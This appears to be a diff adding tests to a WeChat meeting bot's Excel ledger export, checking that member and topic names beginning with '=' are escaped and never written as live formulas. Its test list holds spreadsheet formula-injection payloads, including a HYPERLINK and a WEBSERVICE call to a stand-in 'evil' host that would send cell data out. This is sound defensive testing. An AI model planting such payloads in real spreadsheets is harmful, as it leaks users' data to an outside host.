@@ -160,3 +160,47 @@ def test_token_from_the_environment_turns_the_sandbox_off():
     assert load_settings({"WECHAT_TOKEN": "t"}, dotenv_path=None,
                          generate_secret=False).sandbox_served is False
     assert load_settings({}, dotenv_path=None, generate_secret=False).sandbox_served is True
+
+
+# 4. A topic or a name beginning with "=" went into the 台账 as a live formula.
+HOSTILE = ['=HYPERLINK("http://evil/?"&A1,"详情")', "=WEBSERVICE(\"http://evil\")", "=1+1",
+           "\t=1+1", "＝1+1", "+1", "-1+2", "@SUM(A1)", "\r=1"]
+
+
+def test_ledger_never_writes_a_formula(chat, session, clock, tmp_path):
+
+    from openpyxl import load_workbook
+
+    from bot.ledger import export_ledger
+    from models.meetings import close_meeting
+
+    branch = make_branch(session, "=分支")
+    make_member(session, branch, "李书记", "13800000001", openid="o-admin", is_admin=True)
+    for n, name in enumerate(HOSTILE):
+        make_member(session, branch, name[:50], f"1390000000{n}")
+    session.commit()
+    when = (clock() + timedelta(days=1)).astimezone(__import__("zoneinfo").ZoneInfo(
+        "Asia/Shanghai")).strftime("%Y-%m-%d %H:%M")
+    reply = chat.say("o-admin", f"新建会议 党课 {when} {HOSTILE[0]} {HOSTILE[1]}")
+    assert "会议已创建" in reply
+    meeting = session.scalars(__import__("sqlalchemy").select(
+        __import__("models.meetings", fromlist=["Meeting"]).Meeting)).one()
+    close_meeting(session, meeting, meeting.starts_at + timedelta(hours=3))
+    session.commit()
+    day = meeting.starts_at.date()
+    path = tmp_path / "ledger.xlsx"
+    export_ledger(session, branch, day - timedelta(days=1), day + timedelta(days=1),
+                  __import__("zoneinfo").ZoneInfo("Asia/Shanghai"), path)
+    workbook = load_workbook(path)
+    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    texts_written = {c.value for c in cells if isinstance(c.value, str)}
+    assert "'=1+1" in texts_written and "'＝1+1" in texts_written
+    assert any(v.startswith("'=HYPERLINK") for v in texts_written)
+
+
+def test_as_text_leaves_ordinary_values_alone():
+    from bot.ledger import as_text
+
+    assert as_text("张明") == "张明" and as_text(3) == 3 and as_text("") == ""
+    assert as_text("-") == "'-"  # a lone minus is harmless but cheap to escape
